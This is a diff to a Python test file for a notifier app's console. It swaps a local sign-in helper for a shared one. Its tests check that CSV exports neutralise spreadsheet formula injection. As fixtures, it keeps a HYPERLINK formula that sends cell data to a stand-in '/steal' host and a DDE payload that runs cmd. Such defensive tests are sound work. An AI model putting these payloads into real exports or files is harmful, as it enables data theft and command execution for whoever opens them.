@@ -6,7 +6,6 @@ from __future__ import annotations
 
 import csv
 import io
-import re
 from collections.abc import AsyncIterator
 from pathlib import Path
 
@@ -16,17 +15,14 @@ from aiohttp.test_utils import TestServer
 
 from notifier.api import create_app
 from notifier.config import Settings
-from notifier.console.passwords import hash_password
-from notifier.domain.enums import Role
 from notifier.domain.models import SubscriberIn
 from notifier.domain.spreadsheet import csv_cell
 from notifier.store import Store
 from subscribers.importer import import_file
 from subscribers.roster_rows import table_from_rows
 from tests.conftest import VILLAGE_A1
+from tests.console_sign_in import signed_in_session
 
-_TOKEN = re.compile(r'name="csrf_token" value="([^"]+)"')
-PASSWORD = "表格公式-足够长的密码-2026"
 FORMULA = '=HYPERLINK("http://198.51.100.9/steal?d="&A2,"点击查看")'
 DDE = "+cmd|' /C calc'!A0"
 
@@ -55,23 +51,6 @@ def test_a_cell_that_would_run_as_a_formula_is_written_as_text(value: object, ce
     assert csv_cell(value) == cell
 
 
-async def signed_in(server: TestServer, store: Store, department: str) -> aiohttp.ClientSession:
-    """A console session of an issuer of ``department`` (the caller closes it)."""
-    password_hash = await hash_password(PASSWORD)
-    member = await store.create_staff_account(
-        department=department, role=Role.ISSUER, name="张文员", login=None, password_hash=password_hash, actor="test"
-    )
-    await store.set_staff_password(member, password_hash, keep_session="")
-    base = str(server.make_url("")).rstrip("/")
-    session = aiohttp.ClientSession(base_url=base, cookie_jar=aiohttp.CookieJar(unsafe=True))
-    async with session.get("/console/login") as response:
-        token = _TOKEN.search(await response.text())[1]  # type: ignore[index]
-    form = {"csrf_token": token, "login": member.login, "password": PASSWORD}
-    async with session.post("/console/login", data=form, allow_redirects=False) as response:
-        assert response.status == 303, await response.text()
-    return session
-
-
 async def download_csv(session: aiohttp.ClientSession, path: str) -> list[dict[str, str]]:
     async with session.get(path) as response:
         assert response.status == 200, await response.text()
@@ -96,7 +75,7 @@ async def test_the_residents_export_writes_a_formula_name_as_text(console: TestS
         "topics": ["air-quality"],
     }  # one of the department's topics: in its staff's scope
     await store.create_subscriber(SubscriberIn.model_validate(data), "test")
-    session = await signed_in(console, store, "environment")
+    session = await signed_in_session(store, str(console.make_url("")), department="environment")
     async with session:
         [row] = await download_csv(session, "/console/residents/export.csv")
     assert row["name"] == "'" + FORMULA
@@ -108,7 +87,7 @@ async def test_a_rosters_unmatched_rows_write_formula_cells_as_text(console: Tes
     roster_id = await store.create_roster(
         department="civil-affairs", name="低保金", key="phone", table=table, direct=False, actor="test"
     )
-    session = await signed_in(console, store, "civil-affairs")
+    session = await signed_in_session(store, str(console.make_url("")), department="civil-affairs")
     async with session:
         [row] = await download_csv(session, f"/console/rosters/{roster_id}/unmatched.csv")
     assert (row["姓名"], row["手机号"], row["金额"]) == ("'" + DDE, "13700000000", "-50")
